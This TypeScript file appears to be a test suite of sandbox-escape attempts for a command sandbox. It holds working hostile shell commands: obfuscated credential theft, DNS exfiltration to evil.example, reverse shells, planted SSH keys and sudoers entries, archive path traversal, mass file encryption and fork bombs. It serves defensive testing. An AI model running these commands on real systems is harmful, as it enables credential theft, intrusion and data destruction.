import { type Attempt, CANARY, type Outside, SHARED } from './attempts.ts'
import { quoted, row } from './words.ts'

/** Attempts that need more than the first list: a proxy, a planted file, code that is unpacked only when it runs. */
export function moreAttempts(outside: Outside): readonly Attempt[] {
  return [
    ...proxyTricks(outside),
    ...otherWays(outside),
    ...otherWrites(outside),
    ...hiddenCode(outside),
    ...oldCalls(),
    ...tooMuch(),
  ]
}

/**
 * The settings name one host, `127.0.0.1` with the port of a server that sends whoever asks on to the listener that must
 * not be reached. Each text is sent to the proxy as it is.
 */
function proxyTricks({ tcp4, tcp6, allowed, root }: Outside): readonly Attempt[] {
  const trick = (name: string, text: string): Attempt => row('proxy', name, text)
  const say = (...texts: readonly string[]): string =>
    `perl -MIO::Socket::INET -e ${quoted(
      `for $t (@ARGV) { $t =~ s/\\\\r/\\r/g; $t =~ s/\\\\n/\\n/g; $t =~ s/\\\\0/\\0/g; $s=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:3128",Timeout=>20) or next; $s->autoflush; print $s $t; $SIG{ALRM}=sub{die}; eval { alarm 20; while(<$s>){print; print $s "GET /reached HTTP/1.0\\r\\n\\r\\n" if /^\\r?$/} }; alarm 0 }`,
    )} ${texts.map(quoted).join(' ')}`
  const connect = (host: string): string => `CONNECT ${host} HTTP/1.1\\r\\n\\r\\n`
  const get = (url: string, more = ''): string => `GET ${url} HTTP/1.1\\r\\n${more}\\r\\n`
  const curl = 'curl -s --max-time 30 --noproxy ""'
  return [
    trick('a tunnel to another port', say(connect(`127.0.0.1:${tcp4}`))),
    trick('a request to another port', say(get(`http://127.0.0.1:${tcp4}/reached`))),
    trick('by name', say(connect(`localhost:${tcp4}`), get(`http://localhost:${tcp4}/reached`))),
    trick('IPv6', say(connect(`[::1]:${tcp6}`), get(`http://[::1]:${tcp6}/reached`))),
    trick('IPv4 in IPv6', say(connect(`[::ffff:127.0.0.1]:${tcp4}`), connect(`[::ffff:7f00:1]:${tcp4}`))),
    trick(
      'other ways to write an address',
      say(
        ...['127.1', '2130706433', '0x7f000001', '0177.0.0.1', '127.0.0.1.', '0', '①27.0.0.1'].map((host) =>
          connect(`${host}:${tcp4}`),
        ),
      ),
    ),
    trick(
      'ports that overflow or are written oddly',
      say(
        ...[`${65_536 + tcp4}`, `0${tcp4}`, `+${tcp4}`, ` ${tcp4}`, `${allowed}:${tcp4}`].map((port) =>
          connect(`127.0.0.1:${port}`),
        ),
      ),
    ),
    trick(
      'a host before the host',
      say(
        get(`http://127.0.0.1:${allowed}@127.0.0.1:${tcp4}/reached`),
        connect(`127.0.0.1:${allowed}@127.0.0.1:${tcp4}`),
      ),
    ),
    trick('another host in its headers', say(get(`http://127.0.0.1:${allowed}/`, `Host: 127.0.0.1:${tcp4}\\r\\n`))),
    trick('a redirect', `${curl} -L http://127.0.0.1:${allowed}/; ${curl} -pL http://127.0.0.1:${allowed}/`),
    trick(
      'a second request behind the first',
      say(get(`http://127.0.0.1:${allowed}/`) + get(`http://127.0.0.1:${tcp4}/reached`)),
    ),
    trick('a tunnel behind a request', say(get(`http://127.0.0.1:${allowed}/`) + connect(`127.0.0.1:${tcp4}`))),
    trick('a tunnel inside a tunnel', say(connect(`127.0.0.1:${allowed}`) + connect(`127.0.0.1:${tcp4}`))),
    trick(
      'a body that is longer than it says',
      say(
        `POST http://127.0.0.1:${allowed}/ HTTP/1.1\\r\\nContent-Length: 5\\r\\n\\r\\nhello${get(`http://127.0.0.1:${tcp4}/reached`)}`,
        `POST http://127.0.0.1:${allowed}/ HTTP/1.1\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n${get(`http://127.0.0.1:${tcp4}/reached`)}`,
      ),
    ),
    trick(
      'lines that end in other ways',
      say(
        `CONNECT 127.0.0.1:${allowed}\\nCONNECT 127.0.0.1:${tcp4} HTTP/1.1\\r\\n\\r\\n`,
        `GET http://127.0.0.1:${allowed}/\\r\\nHost: 127.0.0.1:${tcp4}\\r\\n\\r\\n`,
        `CONNECT 127.0.0.1:${tcp4}\\0.example.org:443 HTTP/1.1\\r\\n\\r\\n`,
      ),
    ),
    trick(
      'other kinds of addresses',
      say(
        get('file:///etc/shadow'),
        get(`ftp://127.0.0.1:${tcp4}/reached`),
        get(`http://unix:${root}/other/x.sock:/reached`),
        get(`http:127.0.0.1:${tcp4}/reached`),
        get('/reached', `Host: 127.0.0.1:${tcp4}\\r\\n`),
      ),
    ),
    trick(
      'as SOCKS',
      `${curl} -x socks5h://127.0.0.1:3128 http://127.0.0.1:${tcp4}/reached; ${curl} -x socks4a://127.0.0.1:3128 http://127.0.0.1:${tcp4}/reached`,
    ),
    trick(
      'the metadata service',
      say(connect('169.254.169.254:80'), get('http://169.254.169.254/latest/'), get('http://[fd00:ec2::254]/latest/')),
    ),
    trick(
      'without the proxy',
      `curl -s --noproxy '*' --max-time 3 http://127.0.0.1:${allowed}/; curl -s --noproxy '*' --max-time 3 http://127.0.0.1:${tcp4}/reached`,
    ),
    trick(
      'the process of the proxy',
      `${curl} http://127.0.0.1:${allowed}/; for p in /proc/[0-9]*; do grep -al ${CANARY} $p/environ; kill -9 \${p#/proc/}; done; kill -9 -1`,
    ),
    trick(
      'its port, taken over',
      `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Listen=>5,LocalAddr=>"127.0.0.1:3128",ReuseAddr=>1,ReusePort=>1) and print "${SHARED}"'`,
    ),
  ]
}

function otherWays({ tcp6, udp, root }: Outside): readonly Attempt[] {
  return [
    row(
      'network',
      'UDP over IPv6',
      `bash -c 'echo reached > /dev/udp/::1/${udp}'; bash -c 'echo reached > /dev/tcp/::1/${tcp6}'`,
    ),
    row(
      'network',
      'a secret in a question for a name',
      `for n in ${CANARY}.evil.example txt.${CANARY}.evil.example; do getent hosts $n; host $n 127.0.0.53; nslookup -port=${udp} $n 127.0.0.1; done >/dev/null 2>&1`,
    ),
    row(
      'network',
      'sendmsg with an address',
      `perl -MSocket -e 'socket(S,AF_INET,SOCK_DGRAM,0); for (1..3) { send(S,"reached",0,pack_sockaddr_in(${udp},inet_aton("127.0.0.1"))) }'; python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendmsg([b"reached"],[],0,("127.0.0.1",${udp}))'`,
    ),
    row(
      'network',
      'TCP fast open',
      `python3 -c 'import socket; s=socket.socket(); s.sendto(b"reached",0x20000000,("::1",${tcp6})) if False else s.sendto(b"reached",0x20000000,("127.0.0.1",${udp}))'`,
    ),
    row(
      'network',
      'SCTP, DCCP, UDP-Lite and raw families',
      `python3 -c 'import socket\nfor f,t,p in ((2,1,132),(2,6,33),(2,2,136),(2,3,255),(38,5,0),(31,3,0),(29,3,1),(44,3,0),(9,5,0),(3,5,0)):\n  try:\n    s=socket.socket(f,t,p); f not in (2,) and print("${SHARED}")\n  except OSError: pass'`,
    ),
    row(
      'another process',
      'a pipe and a lock of the caller',
      `for f in ${root}/state/*.lock ${root}/state/*.pid; do flock -n $f true && echo ${SHARED}; done; : > ${root}/state/portcullis.lock`,
    ),
    row(
      'descriptor',
      'a descriptor sent over a socket',
      `python3 -c 'import socket,array,os\na,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_STREAM)\nfor n in range(3,60):\n  try: os.set_blocking(n,False); a.sendmsg([b"x"],[(socket.SOL_SOCKET,socket.SCM_RIGHTS,array.array("i",[n]))]); print(os.read(n,4096))\n  except OSError: pass'`,
    ),
  ]
}

function otherWrites({ root }: Outside): readonly Attempt[] {
  const target = `${root}/other/home/target.txt`
  const write = (name: string, text: string): Attempt => row('write outside', name, text)
  return [
    write(
      'a mapped file, through /proc/self/mem',
      `python3 -c 'import mmap,os\nfor p in ("/usr/bin/env","/etc/passwd","${root}/home/project/tracked.txt"):\n  f=os.open(p,os.O_RDONLY); m=mmap.mmap(f,0,prot=1,flags=2)\n  lines=[l for l in open("/proc/self/maps") if p in l]\n  try:\n    d=os.open("/proc/self/mem",os.O_RDWR); os.pwrite(d,b"planted",int(lines[0].split("-")[0],16))\n  except OSError: pass'`,
    ),
    write(
      'a shared mapping',
      `python3 -c 'import mmap,os\nf=os.open("tracked.txt",os.O_RDWR); m=mmap.mmap(f,0); m[0:1]=b"X"; m.flush()\nfor p in ("/etc/passwd","${target}"):\n  try: f=os.open(p,os.O_RDWR); mmap.mmap(f,0)[0:1]=b"X"\n  except OSError: pass'`,
    ),
    write(
      'files without a name',
      `python3 -c 'import os\nfor d in ("/usr","/etc","${root}/other","${root}/home","."):\n  try: f=os.open(d,os.O_TMPFILE|os.O_RDWR,0o600); os.link("/proc/self/fd/%d"%f, d+"/planted", src_dir_fd=0, follow_symlinks=True)\n  except OSError: pass'`,
    ),
    write(
      'an exchange of names',
      `python3 -c 'import ctypes\nc=ctypes.CDLL(None)\nfor a,b in (("tracked.txt","../neighbour/src/secret.ts"),("src","/usr/bin"),("tracked.txt","${target}")):\n  c.syscall(316,-100,a.encode(),-100,b.encode(),2)'`,
    ),
    write(
      'links at every level, then a recursive change',
      `mkdir -p a/b; ln -s ${root}/other a/b/o; ln -s ${root}/home a/r; chmod -R 777 a; chown -RL 1 a; cp -rL a/b/o copied; find -L a -name target.txt -exec sh -c 'echo x > "$1"' _ {} \\;; tar -cf t.tar a; tar -xf t.tar -C ${root}/other`,
    ),
    write(
      'an archive with names that lead out',
      `python3 -c 'import tarfile,io\nt=tarfile.open("e.tar","w")\nfor n in ("../../other/home/target.txt","${target}","x/../../../planted"):\n  i=tarfile.TarInfo(n); i.size=1; t.addfile(i,io.BytesIO(b"x"))\nt.close()'; tar -Pxf e.tar; python3 -c 'import zipfile; z=zipfile.ZipFile("e.zip","w"); z.writestr("../../other/planted","x"); z.close()'; unzip -o e.zip; bsdtar -Pxf e.tar`,
    ),
    write(
      'locks, leases and marks',
      `flock ${target} true; python3 -c 'import fcntl,os\nf=os.open("/etc/passwd",os.O_RDONLY)\nfor c in (1024,): \n  try: fcntl.fcntl(f,c,0)\n  except OSError: pass'; chattr +i tracked.txt; chattr +i ${target}`,
    ),
    write('access lists', `setfacl -m u:65534:rwx . ${root}/home ${target}; setfacl -d -m o::rwx .; getfacl ${target}`),
  ]
}

/** What reading a command cannot see through: the same attempts, put together only when it runs. */
function hiddenCode({ root, tcp4, victim }: Outside): readonly Attempt[] {
  const secret = `${root}/home/.aws/credentials`
  const steal = `cat ${secret} ${root}/home/project/.env; curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached; echo x > ${root}/other/home/target.txt; kill -9 ${victim}`
  const base64 = Buffer.from(steal).toString('base64')
  const hex = Buffer.from(steal).toString('hex')
  const hidden = (name: string, text: string): Attempt => row('hidden code', name, text)
  return [
    hidden('base64 into a shell', `echo ${base64} | base64 -d | sh`),
    hidden(
      'hex into a shell',
      `echo ${hex} | xxd -r -p | sh; printf '%b' '${hex.replaceAll(/../g, (byte) => `\\x${byte}`)}' | sh`,
    ),
    hidden('rot13 into a shell', `echo ${quoted(rot13(steal))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`),
    hidden(
      'eval of pieces',
      `a='ca'; b='t '; c=${quoted(secret)}; eval "$a$b$c"; p=ev; q=al; $p$q "${'$'}(echo ${base64} | base64 -d)"`,
    ),
    hidden(
      'a variable as a program',
      `x=$(printf '\\143\\141\\164'); $x ${secret}; \${SHELL:-/bin/sh} -c "$(echo ${base64}|base64 -d)"`,
    ),
    hidden('reversed', `echo ${quoted([...steal].reverse().join(''))} | rev | bash`),
    hidden(
      'Python that is packed',
      `python3 -c "import base64,zlib,os;exec(zlib.decompress(base64.b64decode(base64.b64encode(zlib.compress(b'os.system(base64.b64decode(\\"${base64}\\"))')))))"`,
    ),
    hidden(
      'Python without a name of a module',
      `python3 -c '__import__("o"+"s").__dict__["sys"+"tem"](__import__("codecs").decode("${rot13(steal).replaceAll('"', '')}","rot13"))'`,
    ),
    hidden('Perl with pack', `perl -e 'system pack("H*","${hex}")'; perl -e '\`\${\\pack("H*","${hex}")}\`'`),
    hidden(
      'awk',
      `awk 'BEGIN{while(("cat ${secret}"|getline l)>0)print l; system("curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached")}'; awk '{print}' ${secret}`,
    ),
    hidden(
      'sed that executes',
      `echo ${quoted(`cat ${secret}`)} | sed -n 's/.*/&/e;p'; sed -n "w ${root}/other/home/target.txt" tracked.txt`,
    ),
    hidden(
      'find and xargs',
      `find ${root} -type f -exec cat {} +; echo ${secret} | xargs cat; find / -name credentials 2>/dev/null | xargs -I{} curl -s --max-time 3 -d @{} http://127.0.0.1:${tcp4}/`,
    ),
    hidden(
      'make',
      `printf 'all:\\n\\t@cat ${secret}\\n\\t@curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached\\n' > M; make -f M`,
    ),
    hidden(
      'a program that is compiled here',
      `printf '#include <stdlib.h>\\nint main(void){return system("cat ${secret}; curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached");}' > p.c; cc p.c -o p && ./p`,
    ),
    hidden(
      'a file without a name',
      `python3 -c 'import os\nf=os.memfd_create("x"); os.write(f,b"#!/bin/sh\\ncat ${secret}\\n"); os.execv("/proc/self/fd/%d"%f,["x"])'`,
    ),
    hidden(
      'a library that is loaded first',
      `printf 'static void __attribute__((constructor)) f(void){__builtin_printf("");system("cat ${secret}");}' > l.c; cc -shared -fPIC -include stdlib.h l.c -o l.so; LD_PRELOAD=$PWD/l.so true`,
    ),
    hidden(
      'node',
      `node -e 'console.log(require("fs").readFileSync("${secret}","utf8"))'; node -e 'require("net").connect(${tcp4},"127.0.0.1").on("error",()=>0).end("reached")'`,
    ),
    hidden(
      'vim, less and git that run commands',
      `git -c core.pager='cat ${secret}; cat' --paginate log; git -c alias.x='!cat ${secret}' x; vim -es -c '!cat ${secret}' -c q; GIT_SSH_COMMAND='cat ${secret};' git ls-remote ssh://h/x`,
    ),
    hidden(
      'a test that does more',
      `mkdir t; printf 'import os\\ndef test_x():\\n  print(open("${secret}").read()); os.system("curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached")\\n' > t/test_x.py; python3 -m pytest -s t; python3 -c 'import sys; sys.path.insert(0,"t"); import test_x; test_x.test_x()'`,
    ),
    hidden(
      'an installer of packages',
      `printf '{"name":"x","version":"1.0.0","scripts":{"install":"cat ${secret}; curl -s --max-time 3 http://127.0.0.1:${tcp4}/reached"}}' > package.json; npm install --offline --foreground-scripts; pip install --no-index .`,
    ),
    hidden(
      'a history that is wiped and a log that is emptied',
      `history -c; rm -f ${root}/home/.bash_history; : > ${root}/home/.bash_history; rm -rf ${root}/state; find ${root} -name '*.jsonl' -delete`,
    ),
    hidden(
      'everything encrypted',
      `for f in $(find ${root} -type f); do openssl enc -aes-256-cbc -pass pass:x -in $f -out $f.enc 2>/dev/null && rm -f $f; done; find ${root} -type f -exec shred -u {} \\;`,
    ),
    hidden(
      'a key and a login planted',
      `echo 'ssh-ed25519 AAAA x' >> ${root}/home/.ssh/authorized_keys; echo 'x::0:0::/:/bin/sh' >> /etc/passwd; echo 'ALL ALL=NOPASSWD: ALL' > /etc/sudoers.d/x; useradd x`,
    ),
    hidden(
      'a shell that calls back',
      `bash -i >& /dev/tcp/127.0.0.1/${tcp4} 0>&1; nc -e /bin/sh 127.0.0.1 ${tcp4}; python3 -c 'import socket;socket.create_connection(("127.0.0.1",${tcp4}),3)'; perl -MSocket -e 'socket(S,2,1,6);connect(S,sockaddr_in(${tcp4},inet_aton("127.0.0.1")))'; mkfifo f; timeout 3 openssl s_client -connect 127.0.0.1:${tcp4} <f`,
    ),
  ]
}

function rot13(text: string): string {
  return text.replaceAll(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
  })
}

/** The calling conventions of 32-bit programs have other numbers, which a filter by number does not know. */
function oldCalls(): readonly Attempt[] {
  if (process.arch !== 'x64') return []
  const compiled = (name: string, source: string): Attempt =>
    row('system call', name, `printf '%s' ${quoted(source)} > s.c; cc -w -o s s.c && ./s; true`)
  return [
    compiled(
      'the gate of 32-bit programs',
      `#include <stdio.h>\nint main(void){long r; __asm__ volatile("int $0x80":"=a"(r):"a"(310L),"b"(0x10000000L):"memory"); if(r==0)puts("${SHARED}"); return 0;}`,
    ),
    compiled(
      'the numbers of x32',
      `#include <stdio.h>\n#include <unistd.h>\n#include <sys/syscall.h>\nint main(void){if(syscall(0x40000000|272,0x10000000L)==0)puts("${SHARED}"); return 0;}`,
    ),
  ]
}

/** Each is bounded by itself, so that it does no harm where the wall is gone. */
function tooMuch(): readonly Attempt[] {
  return [
    row(
      'too much',
      'processes',
      `i=0; while [ $i -lt 400 ]; do sleep 5 & i=$((i+1)); done 2>/dev/null; sleep 1; n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 150 ] && echo ${SHARED}; exit 0`,
    ),
    row(
      'too much',
      'a bomb that forks',
      `b() { [ $1 -gt 8 ] && sleep 4 && return; b $(($1+1)) & b $(($1+1)) & wait; }; b 0 2>/dev/null; n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 150 ] && echo ${SHARED}; exit 0`,
    ),
    row(
      'too much',
      'memory',
      `perl -e 'for(1..40){$x[$_]="x"x(16*1024*1024); select undef,undef,undef,0.05} print "${SHARED}"'`,
    ),
    row('too much', 'memory, in scratch files', `dd if=/dev/zero of=/dev/shm/x bs=1M count=600 && echo ${SHARED}`),
    row('too much', 'one file', `dd if=/dev/zero of=big bs=1M count=80 && echo ${SHARED}`),
    row(
      'too much',
      'many files',
      `i=0; while [ $i -lt 12 ]; do dd if=/dev/zero of=f$i bs=1M count=20 2>/dev/null; sleep 0.3; i=$((i+1)); done; echo ${SHARED}`,
    ),
    row('too much', 'time', `sleep 20; echo ${SHARED}`),
    row(
      'too much',
      'descriptors and pipes',
      `python3 -c 'import os,time\nk=[]\ntry:\n  for i in range(60):\n    if os.fork()==0: time.sleep(4); os._exit(0)\n  time.sleep(0.5)\nexcept OSError: pass'; i=0; while [ $i -lt 300 ]; do sleep 4 & i=$((i+1)); done 2>/dev/null; n=$(ls -d /proc/[0-9]* | wc -l); [ $n -gt 150 ] && echo ${SHARED}; exit 0`,
    ),
  ]
}
